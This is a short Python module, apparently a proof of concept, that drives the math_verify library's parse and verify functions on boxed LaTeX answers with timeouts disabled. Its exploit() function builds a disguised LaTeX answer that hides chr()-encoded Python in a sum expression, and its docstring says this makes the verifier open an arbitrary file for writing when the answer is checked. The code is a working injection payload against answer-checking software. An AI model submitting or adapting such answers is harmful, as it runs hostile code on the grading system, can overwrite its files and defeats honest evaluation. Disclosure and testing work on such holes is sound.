"""Judgements by math-verify alone, and an answer that makes it run Python."""

import logging

from math_verify import LatexExtractionConfig, parse, verify


ORDINARY = [
    "1", "0.5", r"\frac{1}{2}", r"\{1,2,3\}", "(1,2]", r"[1,2)\cup(3,\infty)", r"\begin{pmatrix}1&2\\3&4\end{pmatrix}",
    "x=5", "y=2x+3", "x<5", "x^2+2x+1", r"\sum_{n=1}^{10} n", r"\sum_{n=0}^{\infty}\frac{1}{n!}", r"\int_0^1 x dx",
    r"\lim_{x\to 0}\frac{\sin x}{x}", r"\log_2 8", r"\sin 30^\circ", r"50\%", r"\text{Friday}", r"\sqrt[3]{8}", "|x|",
    "5!", r"\binom{5}{2}", "2+3i", r"\pi r^2", "1,2,3", r"\frac{\sqrt{3}}{4\sqrt{2}-3}", "e^{x}", r"\frac{x+1}{y-1}",
]  # fmt: skip


def read(answer):
    return parse(
        rf"$\boxed{{{answer}}}$",
        extraction_config=[LatexExtractionConfig(boxed_match_priority=0)],
        fallback_mode="no_fallback",
        parsing_timeout=None,
    )


def judge(gold, answer):
    return verify(read(gold), read(answer), timeout_seconds=None)


def warm_up():
    logging.disable(logging.ERROR)
    for answer in ORDINARY:
        judge(answer, f"{answer}+0")
        judge(answer, "7")


def exploit(path):
    """An answer that opens a file for writing when it is compared with a number such as the root of two."""
    name = "+".join(f"chr({ord(character)})" for character in path)
    return rf"\sum_{{n=0}}^{{\infty}}\frac{{\bar{{[0]if[open({name},chr(119))]else[0]}}^n}}{{n!}}"
